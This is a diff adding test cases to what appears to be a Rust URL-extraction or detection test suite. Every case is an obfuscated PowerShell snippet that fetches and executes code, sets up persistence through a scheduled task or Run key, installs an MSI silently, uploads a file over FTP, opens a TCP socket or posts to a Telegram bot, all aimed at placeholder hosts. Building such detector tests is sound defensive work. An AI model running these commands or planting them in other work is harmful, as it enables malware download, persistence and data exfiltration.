@@ -368,6 +368,130 @@ const FORMS: &[(&str, &[&str])] = &[
         "Invoke-Command -ComputerName ('192.0'+'.2.105') -ScriptBlock { hostname }\n",
         &["192.0.2.105"],
     ),
+    (
+        "$r=Invoke-WebRequest -Uri ('https://192.0'+'.2.1/login') -SessionVariable s -Method POST -Body @{u='a'} -UserAgent 'x'\n",
+        &["https://192.0.2.1/login"],
+    ),
+    (
+        "$w=[Net.WebClient]::new();$w.BaseAddress='http://192.0'+'.2.2/x/';$w.DownloadString('a')\n",
+        &["http://192.0.2.2/x/a"],
+    ),
+    ("irm -Uri:('http://192.0'+'.2.3/a')|iex\n", &["http://192.0.2.3/a"]),
+    ("$f={param($h,$p) irm \"http://$h/$p\"};& $f '192.0.2.4' 'a'\n", &["http://192.0.2.4/a"]),
+    (
+        ". ([scriptblock]::Create('function z($q){irm $q}'));z 'http://192.0.2.5/a'\n",
+        &["http://192.0.2.5/a"],
+    ),
+    (
+        "irm ([char](103+1)+[char]0x74+[char]116+'p'+[char]58+'//192.0.2.6/a')\n",
+        &["http://192.0.2.6/a"],
+    ),
+    ("irm ('{0}tp:{1}{1}{2}' -f 'ht',[char]47,'192.0.2.7/a')\n", &["http://192.0.2.7/a"]),
+    ("$x=$env:SystemRoot[0]+'url.exe';& $x ('http://192.0'+'.2.8/a')\n", &["http://192.0.2.8/a"]),
+    (
+        "$u='http:','','192.0.2.9','a' -join '/';Invoke-WebRequest $u -OutFile (Join-Path $env:TEMP 'a.exe')\n",
+        &["http://192.0.2.9/a"],
+    ),
+    (
+        "irm ([regex]::Replace('68747470 3a2f2f','\\s',''  ) -replace '..',{[char][Convert]::ToInt32($_.Value,16)})\nirm ('http://192.0'+'.2.10/a')\n",
+        &["http://192.0.2.10/a"],
+    ),
+    (
+        "$s='hxtxtxpx:x/x/x1x9x2x.x0x.x2x.x1x1x/xax';$o='';0..($s.Length-1)|?{$_%2 -eq 0}|%{$o+=$s[$_]};irm $o\n",
+        &["http://192.0.2.11/a"],
+    ),
+    (
+        "$h=[ordered]@{a='http://';b='192.0.2.12';c='/a'};irm ($h.Values -join '')\n",
+        &["http://192.0.2.12/a"],
+    ),
+    (
+        "$t=@\"\nfoo\nu=http://192.0.2.13/a\n\"@\n$u=($t|Select-String 'u=(\\S+)').Matches[0].Groups[1].Value;irm $u\n",
+        &["http://192.0.2.13/a"],
+    ),
+    (
+        "if('zz<http://192.0.2.14/a>zz' -match '<(.+)>'){irm $matches[1]}\n",
+        &["http://192.0.2.14/a"],
+    ),
+    (
+        "$c=ConvertFrom-StringData \"h=192.0.2.15`np=a\";irm \"http://$($c.h)/$($c.p)\"\n",
+        &["http://192.0.2.15/a"],
+    ),
+    (
+        "$c=\"h,p`n192.0.2.16,a\"|ConvertFrom-Csv;irm (\"http://{0}/{1}\" -f $c.h,$c.p)\n",
+        &["http://192.0.2.16/a"],
+    ),
+    (
+        "foreach($l in @'\n192.0.2.17/a\n192.0.2.17/b\n'@ -split \"`r?`n\"){ irm \"http://$l\" }\n",
+        &["http://192.0.2.17/a", "http://192.0.2.17/b"],
+    ),
+    ("try{throw 'http://192.0.2.18/a'}catch{irm $_.Exception.Message}\n", &["http://192.0.2.18/a"]),
+    (
+        "function R($s){if($s.Length -le 1){$s}else{(R $s.Substring(1))+$s[0]}};irm (R 'a/91.2.0.291//:ptth')\n",
+        &["http://192.0.2.19/a"],
+    ),
+    (
+        "$n=208,232,232,224,116,94,94,98,114,100,92,96,92,100,92,100,96,94,194;irm (-join($n|%{[char]($_ -shr 1)}))\n",
+        &["http://192.0.2.20/a"],
+    ),
+    (
+        "$b=[byte[]](0x68,0x74,0x74,0x70);irm ([Text.Encoding]::ASCII.GetString($b)+'://192.0.2.21/a')\n",
+        &["http://192.0.2.21/a"],
+    ),
+    (
+        "$r=-join('uggc://192.0.2.22/n'.ToCharArray()|%{if($_ -match '[a-m]'){[char]([int]$_+13)}elseif($_ -match '[n-z]'){[char]([int]$_-13)}else{$_}});irm $r\n",
+        &["http://192.0.2.22/a"],
+    ),
+    (
+        "$a='abcdefghijklmnopqrstuvwxyz';$r='';foreach($c in 'kwws'.ToCharArray()){$r+=$a[($a.IndexOf($c)-3+26)%26]};irm \"$r`://192.0.2.23/a\"\n",
+        &["http://192.0.2.23/a"],
+    ),
+    (
+        "Start-Process -FilePath \"$env:windir\\System32\\curl.exe\" -ArgumentList @('-s','-o',\"$env:TEMP\\a\",('http://192.0'+'.2.24/a')) -Wait -NoNewWindow\n",
+        &["http://192.0.2.24/a"],
+    ),
+    (
+        "saps powershell \"-nop -c irm http://192.0.2.25/a | iex\" -Verb RunAs\n",
+        &["http://192.0.2.25/a"],
+    ),
+    (
+        "'aXJtIGh0dHA6Ly8xOTIuMC4yLjI2L2E='|%{[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($_))}|iex\n",
+        &["http://192.0.2.26/a"],
+    ),
+    ("iex \"$('irm')$([char]32)http://192.0.2.27/a\"\n", &["http://192.0.2.27/a"]),
+    (
+        "New-Item HKCU:\\Software\\Q -Force|Out-Null;Set-ItemProperty HKCU:\\Software\\Q -Name c -Value ('irm http://192.0'+'.2.28/a');iex (gp HKCU:\\Software\\Q).c\n",
+        &["http://192.0.2.28/a"],
+    ),
+    (
+        "schtasks /create /tn q /sc onlogon /tr (\"mshta \"+'http://192.0'+'.2.29/a') /f\n",
+        &["http://192.0.2.29/a"],
+    ),
+    (
+        "$v='mshta http://192.0'+'.2.30/a';reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v q /d $v /f\n",
+        &["http://192.0.2.30/a"],
+    ),
+    ("$u='http://192.0'+'.2.31/a.msi';msiexec.exe /i $u /qn\n", &["http://192.0.2.31/a.msi"]),
+    ("rundll32.exe url.dll,OpenURL ('http://192.0'+'.2.32/a')\n", &["http://192.0.2.32/a"]),
+    (
+        "$w=New-Object Net.WebClient;$w.Credentials=New-Object Net.NetworkCredential('a','b');$w.UploadFile('ftp://192.0'+'.2.33/a','C:\\a')\n",
+        &["ftp://192.0.2.33/a"],
+    ),
+    (
+        "$c=New-Object Net.Sockets.TcpClient;$c.ConnectAsync('192.0'+'.2.34',1234).Wait();$s=New-Object IO.StreamWriter($c.GetStream())\n",
+        &["192.0.2.34:1234"],
+    ),
+    (
+        "param([string]$U=('http://192.0'+'.2.35/a'))\nInvoke-WebRequest -Uri $U -UseBasicParsing | Out-Null\n",
+        &["http://192.0.2.35/a"],
+    ),
+    (
+        "function G{[CmdletBinding()]param([Parameter(ValueFromPipeline)]$x)begin{$o=''}process{$o+=$x}end{irm $o}}\n'http://','192.0.2.36','/a'|G\n",
+        &["http://192.0.2.36/a"],
+    ),
+    (
+        "$t='1:A';$b=\"https://api.telegram.example/bot$t\";irm \"$b/sendMessage\" -Method Post -Body @{chat_id=1;text='x'}\n",
+        &["https://api.telegram.example/bot1:A/sendMessage"],
+    ),
 ];
 
 #[test]
